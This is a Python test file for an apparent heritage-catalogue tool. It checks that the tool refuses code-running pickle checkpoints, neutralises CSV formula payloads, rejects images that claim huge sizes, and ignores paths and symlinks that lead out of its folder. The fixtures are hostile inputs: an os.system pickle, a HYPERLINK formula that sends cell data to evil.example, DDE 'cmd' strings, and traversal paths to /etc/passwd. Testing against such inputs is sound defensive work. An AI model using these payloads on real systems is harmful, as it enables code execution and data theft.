"""Hostile files: code-running pickles, mismatched checkpoints, formula payloads, images that
claim huge sizes, and CSV paths or symlinks that lead out of the images folder.
"""

from __future__ import annotations

import csv
import json
import os
import pickle
import struct
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import torch

from heritage_desk.core.model import Field, ModelUnavailableError, Provenance
from heritage_desk.ml.checkpoint import CheckpointError, load_checkpoint, save_checkpoint
from heritage_desk.storage.catalogue import Catalogue
from heritage_desk.storage.exporter import export_csv
from heritage_desk.storage.importer import import_collection
from tests.fixtures import broken
from tests.reliability.helpers import ROOT, child_env


class _Payload:
    """Unpickling this runs `touch MARKER`."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (f"touch {self.marker}",))


def _pickles(folder: Path, marker: Path) -> list[Path]:
    """The same payload as raw pickle (protocols 0 and 5) and as torch.save (zip)."""
    out = []
    for proto in (0, 5):
        p = folder / f"proto{proto}.safetensors"
        p.write_bytes(pickle.dumps({"w": _Payload(marker)}, protocol=proto))
        out.append(p)
    p = folder / "torchsave.safetensors"
    torch.save({"w": _Payload(marker)}, p)
    out.append(p)
    npy = folder / "embedding.npy"
    np.save(npy, np.array([_Payload(marker)], dtype=object), allow_pickle=True)
    out.append(npy)
    return out


def _cli(
    *args: str, timeout: float = 300, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "heritage_desk", *args],
        cwd=ROOT,
        env=child_env(**(env or {})),
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def test_pickle_checkpoints_never_run_code(tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    for path in _pickles(tmp_path, marker):
        with pytest.raises((CheckpointError, ValueError)) as err:
            load_checkpoint(path)
        assert "\n" not in str(err.value)
        assert not marker.exists(), f"loading {path.name} ran code"


def test_pickle_as_active_model_is_refused_by_service_and_cli(tmp_path: Path) -> None:
    """A catalogue whose active model file was swapped for a pickle: refused, nothing runs."""
    from heritage_desk.services.suggestions import SuggestionService

    marker = tmp_path / "PWNED"
    hostile = _pickles(tmp_path, marker)[2]
    cat_path = tmp_path / "c.sqlite"
    with Catalogue.open(cat_path) as cat:
        cat.add_asset("a.jpg", "a" * 64)
        cat.add_model_version("m001", str(hostile), active=True)
        svc = SuggestionService(cat, cache_dir=tmp_path / "cache", starter=False)
        # The active model is the catalogue's: refused as unavailable (no fallback), naming why.
        with pytest.raises(ModelUnavailableError, match="pickle"):
            svc.predictor()
    assert not marker.exists()
    res = _cli("suggest", str(cat_path), "-q", env={"HERITAGE_DESK_DATA_DIR": str(tmp_path / "d")})
    assert res.returncode != 0
    assert "Traceback" not in res.stderr, res.stderr[-2000:]
    assert len(res.stderr.strip().splitlines()) == 1, res.stderr
    assert not marker.exists()


def test_pickled_embedding_in_cache_is_ignored(tmp_path: Path) -> None:
    from heritage_desk.ml.embeddings import EmbeddingCache

    marker = tmp_path / "PWNED"
    npy = _pickles(tmp_path, marker)[3]
    cache = EmbeddingCache(tmp_path / "cache")
    target = cache.path("ab" * 32, "lite0")
    target.parent.mkdir(parents=True)
    target.write_bytes(npy.read_bytes())
    assert cache.get("ab" * 32, "lite0") is None
    _, found = cache.get_many(["ab" * 32], "lite0")
    assert not found.any()
    assert not marker.exists()


@pytest.fixture(scope="module")
def good_checkpoint(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from heritage_desk.ml import TrainConfig, train_head
    from tests.unit.test_ml_model import toy

    ex, x = toy(n=120)
    cfg = TrainConfig(epochs=2, shared_hidden=16, meta_hidden=4, batch_size=64, num_threads=1)
    return save_checkpoint(train_head(ex, x, cfg), tmp_path_factory.mktemp("m") / "g.safetensors")


def _rewrite(src: Path, dst: Path, *, tensors=None, meta_edit=None) -> Path:  # type: ignore[no-untyped-def]
    from safetensors import safe_open
    from safetensors.torch import save_file

    with safe_open(str(src), framework="pt") as f:
        header = dict(f.metadata())
        ts = {k: f.get_tensor(k) for k in f.keys()}  # noqa: SIM118
    if tensors:
        tensors(ts)
    if meta_edit:
        meta = json.loads(header["json"])
        meta_edit(meta)
        header["json"] = json.dumps(meta)
    save_file(ts, str(dst), metadata=header)
    return dst


def test_wrong_shapes_and_vocabularies_are_refused(good_checkpoint: Path, tmp_path: Path) -> None:
    load_checkpoint(good_checkpoint)  # the original is fine

    def grow_first(ts: dict[str, torch.Tensor]) -> None:
        k = next(k for k in ts if k.startswith("model.") and ts[k].ndim == 2)
        ts[k] = torch.zeros(ts[k].shape[0] + 1, ts[k].shape[1])

    def drop_artist(meta: dict) -> None:  # type: ignore[type-arg]
        meta["vocab"]["artists"] = meta["vocab"]["artists"][:-1]

    def add_artist(meta: dict) -> None:  # type: ignore[type-arg]
        meta["vocab"]["artists"] = [*meta["vocab"]["artists"], "Intruder"]

    def huge_config(meta: dict) -> None:  # type: ignore[type-arg]
        meta["model_config"]["shared_hidden"] = 10**9  # must not allocate 10^9-wide layers

    def nan(ts: dict[str, torch.Tensor]) -> None:
        k = next(k for k in ts if k.startswith("model.") and ts[k].is_floating_point())
        ts[k] = ts[k].clone()
        ts[k].view(-1)[0] = float("nan")

    cases = {
        "shape": {"tensors": grow_first},
        "fewer artists": {"meta_edit": drop_artist},
        "more artists": {"meta_edit": add_artist},
        "huge config": {"meta_edit": huge_config},
        "nan": {"tensors": nan},
    }
    for name, edit in cases.items():
        bad = _rewrite(good_checkpoint, tmp_path / f"{name}.safetensors", **edit)
        with pytest.raises(CheckpointError) as err:
            load_checkpoint(bad)
        assert str(bad) in str(err.value) and "\n" not in str(err.value), name


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already quoted",
    "''+twice",
    "-12",
    "+3.5",
    "1e-3",
    'plain, with "quotes"\nand a newline',
    "\tstarts with a tab",
    "\rstarts with CR",
]


def test_formula_payloads_round_trip_neutralised(tmp_path: Path) -> None:
    cat_path = tmp_path / "a.sqlite"
    images = tmp_path / "img"
    with Catalogue.open(cat_path) as cat:
        for i, payload in enumerate(PAYLOADS):
            facts_path = broken.good_jpeg(images / f"{i}.jpg")
            from heritage_desk.storage.images import inspect_image

            facts = inspect_image(facts_path)
            a = cat.add_asset(f"{i}.jpg", facts.checksum)
            cat.set_field(a, Field.TITLE, payload, Provenance.CURATOR, reviewer="=evil()")
            cat.set_field(a, Field.ARTIST, payload, Provenance.IMPORTED)
        out = tmp_path / "out.csv"
        export_csv(cat, out)
        before = {a.image_path: a for a in cat.get_assets(cat.asset_ids())}
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    for row in rows[1:]:
        for cell in row:
            if cell and cell[0] in "=+-@\t\r":
                assert cell.lstrip("+-").replace(".", "", 1).replace("e-", "").isdigit(), cell
    with Catalogue.open(tmp_path / "b.sqlite") as cat:
        report = import_collection(cat, images, out)
        assert report.added == len(PAYLOADS) and not report.problems
        after = {a.image_path: a for a in cat.get_assets(cat.asset_ids())}
    for path, a in before.items():
        b = after[path]
        for f in (Field.TITLE, Field.ARTIST):
            assert b.value(f) == a.value(f), f"{f} of {path}: {a.value(f)!r} -> {b.value(f)!r}"
        # A file cannot prove a curator's confirmation: read as imported (issue 16 item 15).
        assert b.fields[Field.TITLE].provenance == Provenance.IMPORTED
        assert b.fields[Field.ARTIST].provenance == Provenance.IMPORTED


def _png_claiming(path: Path, width: int, height: int) -> Path:
    return broken.bomb(path, width, height)


def _jpeg_claiming(path: Path, width: int, height: int) -> Path:
    data = bytearray(broken.jpeg_bytes((16, 16)))
    i = 2
    while i < len(data):
        marker, length = data[i + 1], struct.unpack(">H", data[i + 2 : i + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            data[i + 5 : i + 9] = struct.pack(">HH", height, width)
            break
        i += 2 + length
    path.write_bytes(bytes(data))
    return path


def _gif_claiming(path: Path, width: int, height: int) -> Path:
    broken.animated_gif(path, frames=1)
    data = bytearray(path.read_bytes())
    data[6:10] = struct.pack("<HH", width, height)
    path.write_bytes(bytes(data))
    return path


def _tiff_claiming(path: Path, width: int, height: int) -> Path:
    from PIL import Image

    Image.new("L", (8, 8)).save(path, "TIFF")
    data = bytearray(path.read_bytes())
    (ifd,) = struct.unpack("<I", data[4:8])
    (n,) = struct.unpack("<H", data[ifd : ifd + 2])
    for e in range(n):
        off = ifd + 2 + 12 * e
        tag, _typ = struct.unpack("<HH", data[off : off + 4])
        if tag in (256, 257):
            value = width if tag == 256 else height
            data[off + 2 : off + 4] = struct.pack("<H", 4)  # LONG
            data[off + 8 : off + 12] = struct.pack("<I", value)
    path.write_bytes(bytes(data))
    return path


IMPORT_LIMITED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1536 << 20, 1536 << 20))
from heritage_desk.storage.catalogue import Catalogue
from heritage_desk.storage.importer import import_collection
with Catalogue.open(sys.argv[1]) as cat:
    r = import_collection(cat, sys.argv[2])
for w, reason in r.problems:
    print("PROBLEM", w, "|", reason)
print("ADDED", r.added)
# VmHWM, not ru_maxrss: Linux keeps ru_maxrss across exec, so it would show the parent's peak.
hwm = [ln for ln in open("/proc/self/status") if ln.startswith("VmHWM")][0].split()[1]
print("MAXRSS_KB", hwm)
"""


def test_images_claiming_huge_sizes_are_refused_in_bounded_memory(tmp_path: Path) -> None:
    """Run in a child limited to 1.5 GB of address space: allocating the claimed pixels fails."""
    images = tmp_path / "img"
    images.mkdir()
    huge = {
        "png.png": _png_claiming(images / "png.png", 100_000, 100_000),
        "wide.png": _png_claiming(images / "wide.png", 2**31 - 1, 1),
        "jpeg.jpg": _jpeg_claiming(images / "jpeg.jpg", 65_000, 65_000),
        "gif.gif": _gif_claiming(images / "gif.gif", 65_535, 65_535),
        "tiff.tif": _tiff_claiming(images / "tiff.tif", 200_000, 200_000),
    }
    broken.good_jpeg(images / "fine.jpg")
    proc = subprocess.run(
        [sys.executable, "-c", IMPORT_LIMITED, str(tmp_path / "c.sqlite"), str(images)],
        cwd=ROOT, env=child_env(), capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-3000:]
    problems = {
        ln.split()[1]: ln.split("|", 1)[1]
        for ln in proc.stdout.splitlines()
        if ln.startswith("PROBLEM")
    }
    assert set(problems) == set(huge), proc.stdout
    assert "ADDED 1" in proc.stdout
    rss_mb = int(proc.stdout.split("MAXRSS_KB")[1].split()[0]) / 1024
    assert rss_mb < 400, f"peak RSS {rss_mb:.0f} MB while refusing huge images"


def test_paths_and_symlinks_leading_out_are_never_read(tmp_path: Path) -> None:
    """Targets outside are FIFOs: opening one for reading would hang the import (timeout)."""
    outside = tmp_path / "outside"
    outside.mkdir()
    os.mkfifo(outside / "secret.jpg")
    os.mkfifo(outside / "secret2.png")
    real_secret = broken.good_jpeg(outside / "real.jpg")
    images = tmp_path / "images"
    broken.good_jpeg(images / "ok.jpg")
    (images / "link.jpg").symlink_to(outside / "secret.jpg")
    (images / "link_real.jpg").symlink_to(real_secret)
    (images / "linkdir").symlink_to(outside, target_is_directory=True)
    (images / "sub").mkdir()
    (images / "sub" / "up.png").symlink_to("../../outside/secret2.png")
    hostile = [
        "../outside/secret.jpg",
        str(outside / "secret.jpg"),
        "..\\outside\\secret.jpg",
        "sub/../../outside/real.jpg",
        "C:\\Windows\\win.ini",
        "file:///etc/passwd",
        "linkdir/real.jpg",
        "/etc/passwd",
    ]
    rows = [["file", "title"], ["ok.jpg", "fine"]] + [
        [h, f"hostile {i}"] for i, h in enumerate(hostile)
    ]
    meta = broken.write_csv(tmp_path / "m.csv", rows)
    code = (
        "import sys\n"
        "from heritage_desk.storage.catalogue import Catalogue\n"
        "from heritage_desk.storage.importer import import_collection\n"
        "with Catalogue.open(sys.argv[1]) as cat:\n"
        "    r = import_collection(cat, sys.argv[2], sys.argv[3])\n"
        "    print('PATHS', sorted(a.image_path for a in cat.get_assets(cat.asset_ids())))\n"
        "print('ADDED', r.added)\n"
        "for w, reason in r.problems: print('PROBLEM', w, '|', reason)\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / "c.sqlite"), str(images), str(meta)],
        cwd=ROOT, env=child_env(), capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "PATHS ['ok.jpg']" in proc.stdout, proc.stdout
    problems = [ln for ln in proc.stdout.splitlines() if ln.startswith("PROBLEM")]
    text = "\n".join(problems)
    for name in ("link.jpg", "link_real.jpg", "linkdir", "sub/up.png"):
        assert name in text, f"{name} not reported:\n{text}"
    for i, _h in enumerate(hostile, start=3):
        assert f"row {i}" in text, f"CSV row {i} ({hostile[i - 3]!r}) not reported:\n{text}"


def test_oversized_and_binary_csv_cells_are_reported(tmp_path: Path) -> None:
    images = tmp_path / "img"
    broken.good_jpeg(images / "a.jpg")
    broken.good_jpeg(images / "b.jpg")
    meta = tmp_path / "m.csv"
    big = "x" * 300_000  # over the csv module's default field limit (131072)
    meta.write_text(f"file,title\r\na.jpg,{big}\r\nb.jpg,fine\r\n", encoding="utf-8")
    with Catalogue.open(tmp_path / "c.sqlite") as cat:
        report = import_collection(cat, images, meta)
        titles = {a.image_path: a.title for a in cat.get_assets(cat.asset_ids())}
    assert titles.get("b.jpg") == "fine"
    assert report.added == 2
    assert any("row 2" in w for w, _ in report.problems) or titles.get("a.jpg") == big


def test_truncated_animated_gif_is_reported_not_fatal(tmp_path: Path) -> None:
    """Found by test_fuzz: a GIF cut inside its second frame made counting frames raise
    struct.error, which ended the whole import with a traceback."""
    images = tmp_path / "img"
    images.mkdir()
    gif = broken.animated_gif(tmp_path / "a.gif")
    (images / "cut.gif").write_bytes(gif.read_bytes()[:115])
    broken.good_jpeg(images / "ok.jpg")
    with Catalogue.open(tmp_path / "c.sqlite") as cat:
        report = import_collection(cat, images)
    assert report.added == 1
    assert [w for w, _ in report.problems] == ["cut.gif"]
    res = _cli("import", str(tmp_path / "d.sqlite"), "--images", str(images))
    assert "Traceback" not in res.stderr and res.returncode == 0, res.stderr[-2000:]
